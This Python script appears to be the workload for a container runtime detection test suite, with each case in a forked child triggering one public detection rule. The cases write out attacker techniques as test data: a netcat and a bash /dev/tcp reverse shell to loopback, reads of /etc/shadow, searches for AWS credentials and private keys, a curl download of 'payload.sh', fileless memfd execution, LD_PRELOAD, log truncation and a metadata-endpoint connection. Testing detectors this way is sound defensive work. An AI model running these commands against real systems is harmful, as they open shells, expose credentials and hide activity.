"""The detection suite's workload: each case does what one public detection rule or
technique describes, in its own forked child (a `block` kills only that child).

    python detections.py TMP PORT [CASE ...] [--wait GO_FILE]

TMP is a scratch directory with `bin/` (stand-ins for nc, apt-get, curl: scripts that do
nothing, so nothing is installed or contacted) first on PATH; PORT a loopback TCP listener.
Prints `case NAME status N` per case. Sources of the cases: tests/sidecar/test_detections.py.
Anything created outside TMP (under /etc, /var/log) is removed again by the case.
"""

from __future__ import annotations

import contextlib
import ctypes
import os
import shutil
import socket
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
CLONE_NEWUSER = 0x10000000
TAG = f"containerscan-detect-{os.getpid()}"


def _write_and_remove(path: str) -> None:
    try:
        with open(path, "w") as fh:
            fh.write("x")
    finally:
        with contextlib.suppress(OSError):
            os.unlink(path)


def write_below_etc(tmp: str, port: int) -> None:
    _write_and_remove(f"/etc/{TAG}")


def read_sensitive_file(tmp: str, port: int) -> None:
    with contextlib.suppress(OSError), open("/etc/shadow", "rb") as fh:
        fh.read(1)


def symlink_over_sensitive_file(tmp: str, port: int) -> None:
    os.symlink("/etc/shadow", os.path.join(tmp, "shadow-link"))


def hardlink_over_sensitive_file(tmp: str, port: int) -> None:
    with contextlib.suppress(OSError):  # EXDEV when /tmp is another file system: tried
        os.link("/etc/shadow", os.path.join(tmp, "shadow-hardlink"))


def netcat_remote_code_execution(tmp: str, port: int) -> None:
    os.execvp("nc", ["nc", "-e", "/bin/sh", "127.0.0.1", str(port)])


def reverse_shell_dev_tcp(tmp: str, port: int) -> None:
    os.execv("/bin/bash", ["bash", "-c", f"exec 3<>/dev/tcp/127.0.0.1/{port}; echo x >&3"])


def shell_spawned_by_runtime(tmp: str, port: int) -> None:
    os.execv("/bin/sh", ["sh", "-c", "true"])


def find_aws_credentials(tmp: str, port: int) -> None:
    os.execv(shutil.which("find") or "/usr/bin/find", ["find", tmp, "-name", ".aws"])


def search_private_keys(tmp: str, port: int) -> None:
    grep = shutil.which("grep") or "/usr/bin/grep"
    os.execv(grep, ["grep", "-r", "BEGIN RSA PRIVATE KEY", tmp])


def package_management(tmp: str, port: int) -> None:
    os.execvp("apt-get", ["apt-get", "-o", "Dpkg::Options::=--force-confold", "install", "nmap"])


def download_tool(tmp: str, port: int) -> None:
    os.execvp("curl", ["curl", "-sSLo", "/tmp/x", "http://203.0.113.7/payload.sh"])


def drop_and_execute(tmp: str, port: int) -> None:
    dropped = os.path.join(tmp, "dropped")
    shutil.copyfile("/bin/true", dropped)
    os.chmod(dropped, 0o755)
    os.execv(dropped, ["dropped"])


def fileless_memfd(tmp: str, port: int) -> None:
    fd = os.memfd_create("kworker", 0)
    with open("/bin/true", "rb") as fh:
        os.write(fd, fh.read())
    os.execve(fd, ["kworker"], {})


def ld_preload(tmp: str, port: int) -> None:
    os.execve("/bin/true", ["true"], {"LD_PRELOAD": os.path.join(tmp, "hook.so")})


def clear_log(tmp: str, port: int) -> None:
    path = f"/var/log/{TAG}.log"
    try:
        with open(path, "a") as fh:  # appending is what logs do: not reported
            fh.write("line\n")
        with open(path, "w") as fh:  # O_TRUNC: clearing it
            fh.write("")
    finally:
        with contextlib.suppress(OSError):
            os.unlink(path)


def setuid_bit(tmp: str, port: int) -> None:
    path = os.path.join(tmp, "suid")
    with open(path, "w"):
        pass
    os.chmod(path, 0o4755)


def ptrace_attach(tmp: str, port: int) -> None:
    child = os.fork()
    if child == 0:
        time.sleep(5)
        os._exit(0)
    try:
        if libc.ptrace(PTRACE_ATTACH, child, None, None) == 0:
            os.waitpid(child, 0)
            libc.ptrace(PTRACE_DETACH, child, None, None)
    finally:
        os.kill(child, 9)
        os.waitpid(child, 0)


def unshare_user_namespace(tmp: str, port: int) -> None:
    libc.unshare(CLONE_NEWUSER)


def contact_instance_metadata(tmp: str, port: int) -> None:
    with socket.socket() as sock:
        sock.setblocking(False)
        with contextlib.suppress(OSError):
            sock.connect(("169.254.169.254", 80))


def miner_pool_port(tmp: str, port: int) -> None:
    with socket.socket() as sock, contextlib.suppress(OSError):
        sock.settimeout(1)
        sock.connect(("127.0.0.1", 3333))


def bind_shell_port(tmp: str, port: int) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:  # listens on a random port
        server.getsockname()


def write_below_binary_dir(tmp: str, port: int) -> None:
    _write_and_remove(f"/usr/bin/{TAG}")


CASES = {
    f.__name__.replace("_", "-"): f
    for f in (write_below_etc, read_sensitive_file, symlink_over_sensitive_file,
              hardlink_over_sensitive_file, netcat_remote_code_execution,
              reverse_shell_dev_tcp, shell_spawned_by_runtime, find_aws_credentials,
              search_private_keys, package_management, download_tool, drop_and_execute,
              fileless_memfd, ld_preload, clear_log, setuid_bit, ptrace_attach,
              unshare_user_namespace, contact_instance_metadata, miner_pool_port,
              bind_shell_port, write_below_binary_dir)
}  # fmt: skip


def main() -> None:
    tmp, port = sys.argv[1], int(sys.argv[2])
    args = sys.argv[3:]
    if args[-2:-1] == ["--wait"]:
        go, args = args[-1], args[:-2]
        while not os.path.exists(go):
            time.sleep(0.01)
    for name in args or list(CASES):
        pid = os.fork()
        if pid == 0:
            code = 0
            try:
                CASES[name](tmp, port)
            except BaseException as exc:  # noqa: BLE001 - reported, the suite goes on
                print(f"case {name} error {exc!r}", flush=True)
                code = 1
            finally:
                os._exit(code)
        _, status = os.waitpid(pid, 0)
        print(f"case {name} status {os.waitstatus_to_exitcode(status)}", flush=True)


if __name__ == "__main__":
    main()
